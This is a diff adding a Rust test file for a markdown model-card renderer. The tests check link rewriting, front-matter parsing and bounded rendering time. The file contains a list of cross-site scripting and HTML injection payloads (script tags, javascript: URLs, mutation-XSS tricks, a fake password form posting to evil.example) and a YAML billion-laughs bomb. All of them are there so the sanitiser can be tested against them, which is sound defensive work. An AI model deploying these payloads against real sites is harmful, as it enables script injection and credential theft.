@@ -1,0 +1,265 @@
+use super::*;
+
+fn links() -> CardLinks {
+    CardLinks { pages: "/team/mini/-/blob/v1/".to_owned(), bytes: "/team/mini/-/raw/v1/".to_owned() }
+}
+
+fn html(text: &str) -> String {
+    render_card(text, &links())
+}
+
+#[test]
+fn what_a_card_may_do_is_kept() {
+    let check = |text: &str, expect: &str| {
+        let html = html(text);
+        assert!(html.contains(expect), "{text}\n{html}\nlacks {expect}");
+    };
+    check("# Title", "<h2");
+    check("###### Title", "<h6");
+    check("# Title", "id=\"user-content-title\"");
+    check("[up](#title)", "href=\"#user-content-title\"");
+    check("| a | b |\n| - | - |\n| 1 | 2 |", "<td>1</td>");
+    check("> [!WARNING]\n> Hot", "markdown-alert-warning");
+    check("- [x] done", "type=\"checkbox\"");
+    check("a[^1]\n\n[^1]: note", "note");
+    check("[config](config.json)", "href=\"/team/mini/-/blob/v1/config.json\"");
+    check("[deep](./a/../docs/x%20y.md#part)", "href=\"/team/mini/-/blob/v1/docs/x%20y.md\"");
+    check("![chart](img/chart.png)", "src=\"/team/mini/-/raw/v1/img/chart.png\"");
+    check(
+        "<p align=\"center\"><img src=\"logo.png\" width=\"40\"></p>",
+        "src=\"/team/mini/-/raw/v1/logo.png\"",
+    );
+    check("<details><summary>More</summary>text</details>", "<summary>More</summary>");
+    check("https://example.com", "rel=\"nofollow noopener noreferrer\"");
+    check("```python\nprint(1)\n```", "<code>print(1)");
+    check("---\nlicense: mit\n---\n\nBody", "<p>Body</p>");
+}
+
+/// Cards that try to run something, to load something, to look like the page, or to take it apart.
+const HOSTILE: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<scr<script>ipt>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=\"https://evil.example/pixel.png\">",
+    "![pixel](https://evil.example/pixel.png)",
+    "![pixel](//evil.example/pixel.png)",
+    "![pixel](\\\\evil.example/pixel.png)",
+    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
+    "<picture><source srcset=\"https://evil.example/a.png\"><img src=\"a.png\"></picture>",
+    "<img srcset=\"https://evil.example/a.png 2x\" src=\"a.png\">",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](java\nscript:alert(1))",
+    "<a href=\"java\tscript:alert(1)\">x</a>",
+    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
+    "[x](vbscript:x)",
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "<javascript:alert(1)>",
+    "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+    "<base href=\"https://evil.example/\">",
+    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>body{display:none}</style>",
+    "<p style=\"position:fixed;inset:0;background:url(https://evil.example/x)\">x</p>",
+    "<form action=\"https://evil.example\"><input name=password type=password><button>Sign in</button></form>",
+    "<form action=\"/logout\" method=post><input type=submit></form>",
+    "<input type=\"image\" src=\"https://evil.example/x\" formaction=\"//evil.example\">",
+    "<iframe src=\"https://evil.example\"></iframe>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+    "<object data=\"https://evil.example/x.swf\"></object><embed src=\"//evil.example/x\">",
+    "<video src=\"//evil.example/x.mp4\" autoplay></video><audio src=//evil.example/x></audio>",
+    "<div id=\"results\" class=\"top copy\">x</div>",
+    "<a id=find name=find href=#>x</a>",
+    "<h1 id=content>x</h1>",
+    "<!-- --><img src=x onerror=alert(1)> -->",
+    "<table><tr><td><table><tr><td><table><tr><td>x</table></table></table></main></body></html><h1>out",
+    "</main></body></html>",
+    "<plaintext>rest",
+    "<xmp><script>alert(1)</script></xmp>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+    "<title>x</title><textarea><script>alert(1)</script></textarea>",
+    "<button data-copy=\"x\" onclick=\"alert(1)\">x</button><select data-submit><option>x</select>",
+    "<template><script>alert(1)</script></template>",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "[up](../../../../v2/secret) [abs](/\\evil.example)",
+    "`` ` <script>alert(1)</script> ` ``",
+    "```html\n<script>alert(1)</script>\n```",
+    "<a href=\"https://example.com\" target=\"_top\" ping=\"//evil.example\">x</a>",
+    "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
+    "\u{0}<scr\u{0}ipt>alert(1)</script>",
+];
+
+#[test]
+fn hostile_cards_do_nothing() {
+    for card in HOSTILE {
+        let html = html(card).to_lowercase();
+        // What is inside text or code is escaped; an element is what remains unescaped.
+        for element in [
+            "<script",
+            "<style",
+            "<svg",
+            "<math",
+            "<iframe",
+            "<object",
+            "<embed",
+            "<form",
+            "<button",
+            "<base",
+            "<meta",
+            "<link",
+            "<video",
+            "<audio",
+            "<textarea",
+            "<title",
+            "<template",
+            "<select",
+            "<noscript",
+            "<plaintext",
+            "<xmp",
+            "<main",
+            "</main",
+            "</body",
+            "<body",
+            "<html",
+        ] {
+            assert!(!html.contains(element), "{card}\n{html}");
+        }
+        let parsed = elements(&html);
+        for (element, attributes) in &parsed {
+            for (name, value) in attributes {
+                assert!(!name.starts_with("on") && !name.starts_with("data-"), "{card}\n{html}");
+                assert!(
+                    !["style", "srcdoc", "formaction", "action", "target", "ping", "name", "cite"]
+                        .contains(&&name[..]),
+                    "{card}\n{html}"
+                );
+                match (&element[..], &name[..]) {
+                    ("img" | "source", "src" | "srcset") => {
+                        assert!(value.starts_with("/team/mini/-/raw/v1/"), "{card}\n{html}")
+                    }
+                    ("a", "href") => {
+                        let is_web =
+                            ["http://", "https://", "mailto:"].iter().any(|begin| value.starts_with(begin));
+                        let is_file = value.starts_with("/team/mini/-/blob/v1/") && !value.contains("/../");
+                        assert!(is_web || is_file || value.starts_with("#user-content-"), "{card}\n{html}");
+                    }
+                    (_, "id") => assert!(value.starts_with("user-content-"), "{card}\n{html}"),
+                    ("input", "type") => assert_eq!(value, "checkbox", "{card}"),
+                    (_, "class") => assert!(value.starts_with("markdown-alert"), "{card}\n{html}"),
+                    (_, "src" | "href" | "srcset") => panic!("{card}\n{html}"),
+                    _ => {}
+                }
+            }
+            if element == "input" {
+                assert!(attributes.iter().any(|(name, _)| name == "disabled"), "{card}\n{html}");
+            }
+        }
+    }
+}
+
+/// The elements of sanitised HTML: their names and attributes. Its quotes and brackets are escaped, so that this
+/// suffices.
+fn elements(html: &str) -> Vec<(String, Vec<(String, String)>)> {
+    let mut found = Vec::new();
+    for part in html.split('<').skip(1).filter(|part| part.starts_with(|c: char| c.is_ascii_alphabetic())) {
+        let name: String = part.chars().take_while(char::is_ascii_alphanumeric).collect();
+        let mut rest = &part[name.len()..];
+        let mut attributes = Vec::new();
+        while let Some((key, after)) = rest.split_once("=\"") {
+            if key.contains('>') {
+                break;
+            }
+            let (value, left) = after.split_once('"').unwrap_or_default();
+            attributes.push((key.trim().to_owned(), value.replace("&amp;", "&")));
+            rest = left;
+        }
+        found.push((name, attributes));
+    }
+    found
+}
+
+#[test]
+fn large_cards_are_rendered_in_bounded_time() {
+    let size = usize::try_from(MAX_CARD_BYTES).unwrap();
+    for unit in
+        ["[", "(", "*", "_a", "> ", "`", "![", "<", "|a", "- ", "&", "[a](", "<p>", "~~", "[^1]", "#\n", "\\"]
+    {
+        let card = unit.repeat(size / unit.len());
+        // A deadline would depend on the machine: superlinear work here would take minutes.
+        assert!(html(&card).len() < 64 * size, "{unit}");
+    }
+}
+
+#[test]
+fn front_matter_is_read_leniently() {
+    let check = |text: &str, expect: FrontMatter| {
+        let (yaml, _) = split_front_matter(text);
+        assert_eq!(FrontMatter::parse(yaml.unwrap_or_default()), expect, "{text}");
+    };
+    let some = |text: &str| Some(text.to_owned());
+    let list = |texts: &[&str]| texts.iter().map(|text| (*text).to_owned()).collect::<Vec<_>>();
+    let full = FrontMatter {
+        title: some("Mini"),
+        license: some("apache-2.0"),
+        task: some("text-generation"),
+        library: some("transformers"),
+        languages: list(&["en", "no"]),
+        tags: list(&["chat", "7"]),
+        datasets: list(&["c4"]),
+        base_models: list(&["org/base"]),
+    };
+    let text = "---\nmodel_name: Mini\nlicense: apache-2.0\npipeline_tag: text-generation\nlibrary_name: transformers\nlanguage:\n- en\n- no\ntags: [chat, 7]\ndatasets: c4\nbase_model: org/base\nunknown: {a: [1]}\n---\nBody";
+    check(text, full.clone());
+    check(&text.replace('\n', "\r\n"), full.clone());
+    check(&format!("\u{feff}{text}"), full.clone());
+    // A wrong type loses one value.
+    check(
+        "---\nlicense: {a: b}\ntags: chat\n---\n",
+        FrontMatter { tags: list(&["chat"]), ..FrontMatter::default() },
+    );
+    check(
+        "---\nlicense: other\nlicense_name: mine\n---\n",
+        FrontMatter { license: some("mine"), ..FrontMatter::default() },
+    );
+    check("---\nlicense: [mit, x]\n---\n", FrontMatter { license: some("mit"), ..FrontMatter::default() });
+    for nothing in [
+        "",
+        "---\n",
+        "---\nlicense: mit\n",
+        "text\n---\nlicense: mit\n---\n",
+        "---\n[\n---\n",
+        "---\n: : :\n---\n",
+    ] {
+        check(nothing, FrontMatter::default());
+    }
+}
+
+#[test]
+fn front_matter_bombs_state_nothing() {
+    let laughs = (1..9).fold("a0: &a0 [x,x,x,x,x,x,x,x,x]\n".to_owned(), |text, n| {
+        let last = n - 1;
+        format!("{text}a{n}: &a{n} [{}]\n", vec![format!("*a{last}"); 9].join(","))
+    });
+    for bomb in [laughs, "[".repeat(60_000), "a: ".repeat(20_000), "- ".repeat(30_000), "x".repeat(100_000)] {
+        assert_eq!(FrontMatter::parse(&bomb), FrontMatter::default());
+    }
+}
+
+#[test]
+fn the_first_paragraph_describes_a_model() {
+    let check =
+        |text: &str, expect: Option<&str>| assert_eq!(summary_line(text).as_deref(), expect, "{text}");
+    check(
+        "---\nlicense: mit\n---\n# Mini\n\nA **small** model for\n[tests](x).\n\nMore.",
+        Some("A small model for tests."),
+    );
+    check("# Only a title", None);
+    check("![badge](https://example.com/b.svg)\n\nA description follows.", Some("A description follows."));
+    check("", None);
+    let long = summary_line(&"word ".repeat(200)).unwrap();
+    assert!(long.ends_with('…') && long.chars().count() < 250, "{long}");
+}
